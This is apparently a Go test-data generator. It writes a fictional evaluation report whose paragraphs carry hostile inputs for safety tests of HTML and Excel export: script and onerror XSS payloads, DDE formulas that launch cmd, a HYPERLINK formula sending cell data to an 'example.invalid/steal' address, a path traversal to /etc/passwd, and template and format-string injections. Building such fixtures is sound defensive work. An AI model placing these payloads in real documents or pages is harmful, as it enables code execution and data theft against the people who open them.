package main

import (
	"context"
	"path"
)

// hostile writes testdata/hostile: a plain-text "report" whose paragraphs
// carry markup, spreadsheet formulas and control characters, for the safety
// tests of the HTML output and the Excel export.
func (g *gen) hostile(ctx context.Context) error {
	text := `SAMPLE – hostile test input – invented text for software testing

GRETA(2099)66 – Evaluation Report – Nowhere – Third evaluation round

1. GRETA urges the authorities to <script>alert(1)</script> ensure that victims are identified.

2. =HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details") GRETA considers that the authorities should train judges.

3. +cmd|' /C calc'!A0 GRETA invites the authorities to collect data.

4. @SUM(1+1)*cmd|' /C calc'!A0 GRETA recommends that the authorities review shelters.

5. -2+3+cmd|' /C notepad'!A1 GRETA calls on the authorities to act.

6. =1+1 <img src=x onerror=alert(2)> <a href="javascript:alert(3)">link</a> &lt;b&gt;escaped&lt;/b&gt; "quotes" 'single'

7.	Tab-led paragraph with a NUL-free but odd control: ` + "\u0007" + ` bell, a zero-width space:` + "\u200b" + `here, a right-to-left override: ` + "\u202e" + `txet desrever, and a very long word ` + longWord() + `.

8. Markdown [link](javascript:alert(4)) and ${{ template }} and {{.Evil}} and %s %d %!v and ../../etc/passwd.
`
	return g.write(path.Join("testdata", "hostile", "report.txt"), []byte(text))
}

func longWord() string {
	b := make([]byte, 400)
	for i := range b {
		b[i] = 'x'
	}
	return string(b)
}
